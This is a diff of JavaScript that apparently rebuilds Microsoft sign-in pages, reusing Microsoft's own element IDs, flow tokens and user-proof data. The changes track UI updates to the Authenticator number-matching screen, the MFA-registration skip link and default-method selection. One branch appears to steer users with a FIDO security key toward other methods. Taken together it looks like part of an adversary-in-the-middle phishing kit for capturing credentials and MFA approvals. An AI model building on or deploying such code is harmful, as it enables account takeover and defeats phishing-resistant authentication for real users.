@@ -113,6 +113,7 @@
         isFidoSupported: true, originalRequest: C.sCtx, country: "DE", forceotclogin: false, isExternalFederationDisallowed: false,
         isRemoteConnectSupported: false, federationFlags: 0, isSignup: false, flowToken: C.sFT,
       });
+      if (answer.error) throw new Error(answer.error.code);
       C.sPOST_Username = name;
       busy(false);
       await decide(answer);
@@ -196,9 +197,9 @@
     }),
   ]);
   const phoneSignIn = async (params) => {
+    const [description, number] = C.phoneMoved ? ["phoneText", "phoneNumber"] : ["idDiv_RemoteNGC_PollingDescription", "idRemoteNGC_DisplaySign"];
     await show(4, "login-paginated-remotengc-view", () => [
-      banner(), el("div", { id: "idDiv_RemoteNGC_PollingDescription" }, "Open your Authenticator app"),
-      el("div", { id: "idRemoteNGC_DisplaySign" }, params.Entropy + "\u200e"),
+      banner(), el("div", { id: description }, "Open your Authenticator app"), el("div", { id: number }, params.Entropy + "\u200e"),
       el("a", { id: "idA_PWD_SwitchToPassword", href: "#", click: (e) => { e.preventDefault(); password(); } }, "…"),
       primary("", null, false),
     ]);
@@ -336,7 +337,7 @@
   ]);
   const moreInformation = () => show(32, "proofup-redirect-view", () => [
     header("…"), el("div", { id: "moreInfoLink" }, "…"), el("a", { id: "cancelLink", href: "#" }, "…"),
-    C.iRemainingDaysToSkipMfaRegistration > 0 ? el("a", { id: "skipMfaRegistrationLink", href: C.urlSkipMfaRegistration }, "…") : false,
+    C.iRemainingDaysToSkipMfaRegistration > 0 ? el("a", { id: !C.unnamed && "skipMfaRegistrationLink", href: C.urlSkipMfaRegistration }, "…") : false,
     el("input", { type: "submit", id: "idSubmit_ProofUp_Redirect", value: words.next, click: (e) => { e.preventDefault(); location.href = "https://mysignins.microsoft.com/register"; } }),
   ]);
   const changePassword = () => show(22, "change-password-view", () => [
@@ -357,7 +358,7 @@
     return username();
   };
   const strong = () => {
-    const proof = C.arrUserProofs.find((p) => p.isDefault);
+    const proof = C.arrUserProofs.find((p) => (C.defaultMethod ? p.authMethodId === C.defaultMethod : p.isDefault));
     if (C.confirmPhone) return chooser();
     if (proof && proof.authMethodId === "FidoKey" && document.referrer.startsWith("https://login.microsoft.com/")) return chooser(words.bad);
     return proof ? begin(proof) : chooser();
